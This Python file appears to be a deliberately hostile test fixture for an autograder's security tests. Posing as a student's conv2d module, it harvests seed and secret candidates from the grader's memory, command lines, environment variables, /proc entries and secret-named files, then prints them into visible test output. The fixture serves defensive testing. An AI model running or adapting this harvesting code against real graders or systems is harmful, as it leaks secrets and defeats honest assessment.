"""Hostile: hunts for the seed a graded run draws with, as a student who read the grader's source
would, and prints every candidate it finds, one `found: WHERE: VALUE` line each, so that the
grade's report shows them (on Gradescope, in a visible test's output).

Where it looks: the worker's configuration (found in memory), its command line and environment,
files named like a seed or a secret wherever it may read, and every process's command line and
environment in /proc (the unprivileged fallback shares /proc with the grader). It implements
nothing; tests/staff/test_graded_runs.py and tests/grader/test_layouts.py check that no printed
value is the secret or anything the grader drew with.
"""
import gc
import glob
import os
import re
import sys

NAMES = re.compile(r"seed|secret", re.IGNORECASE)
LONG_HEX = re.compile(rb"\b[0-9a-f]{32,}\b")
FLAGS = (b"--seed", b"--secret-file", b"--secret")
WALKED = ("/autograder", "/tmp", "/var/tmp", "/dev/shm", "/root", "/home", "/work", "/srv", os.getcwd())
NAMED = []  # files named on a command line after --secret-file: read them too


def _short(value) -> str:
    text = value.decode(errors="replace") if isinstance(value, bytes) else str(value)
    return text.replace("\n", " ")[:120]


def _in_memory():
    """The worker's own configuration: its Worker object holds the `load` request's arguments."""
    for thing in gc.get_objects():
        if type(thing).__name__ == "Worker" and isinstance(getattr(thing, "config", None), dict):
            for name, value in thing.config.items():
                if NAMES.search(str(name)):
                    yield f"worker config {name}", value


def _command_line_and_environment():
    for position, argument in enumerate(sys.argv):
        if NAMES.search(argument) or LONG_HEX.search(argument.encode()):
            yield f"argv[{position}]", argument
    for name, value in os.environ.items():
        if NAMES.search(name) or LONG_HEX.search(value.encode()):
            yield f"environment {name}", value


def _processes():
    for folder in glob.glob("/proc/[0-9]*"):
        try:
            with open(f"{folder}/cmdline", "rb") as cmdline:
                parts = cmdline.read().split(b"\0")
        except OSError:
            parts = []
        for index, part in enumerate(parts):
            if part in FLAGS and index + 1 < len(parts):
                NAMED.append(parts[index + 1].decode(errors="replace"))
                yield f"{folder}/cmdline after {part.decode()}", parts[index + 1]
            elif part.startswith(FLAGS) and b"=" in part:
                yield f"{folder}/cmdline", part
            for match in LONG_HEX.findall(part):
                yield f"{folder}/cmdline", match
        try:
            with open(f"{folder}/environ", "rb") as environ:
                variables = environ.read().split(b"\0")
        except OSError:
            continue
        for variable in variables:
            name, _, value = variable.partition(b"=")
            if NAMES.search(name.decode(errors="replace")) or LONG_HEX.search(value):
                yield f"{folder}/environ {name.decode(errors='replace')}", value


def _files(budget=20_000):
    """Readable files named on a command line, or named like a seed or a secret in the folders a
    grader might use."""
    for path in NAMED:
        try:
            with open(path, "rb") as file:
                yield path, file.read(200)
        except OSError:
            continue
    seen = 0
    for top in WALKED:
        for folder, folders, files in os.walk(top):
            folders[:] = [name for name in folders if name not in ("proc", "sys", "site-packages")]
            seen += len(files) + len(folders)
            if seen > budget:
                return
            for name in files:
                if NAMES.search(name) and not name.endswith((".py", ".pyc", ".j2", ".whl")):
                    path = os.path.join(folder, name)
                    try:
                        with open(path, "rb") as file:
                            yield path, file.read(200)
                    except OSError:
                        continue


def hunt():
    found = []
    for source in (_in_memory, _command_line_and_environment, _processes, _files):
        try:
            found += [f"found: {where}: {_short(value)}" for where, value in source()]
        except Exception as error:  # noqa: BLE001 - a route that fails finds nothing
            found.append(f"route {source.__name__} failed: {type(error).__name__}")
    return found or ["found no seed by any route"]


FOUND = hunt()


def _report(*args, **kwargs):
    print("\n".join(FOUND[:30]))


def correlate2d(*args, **kwargs):
    return _report()


def conv2d(*args, **kwargs):
    return _report()
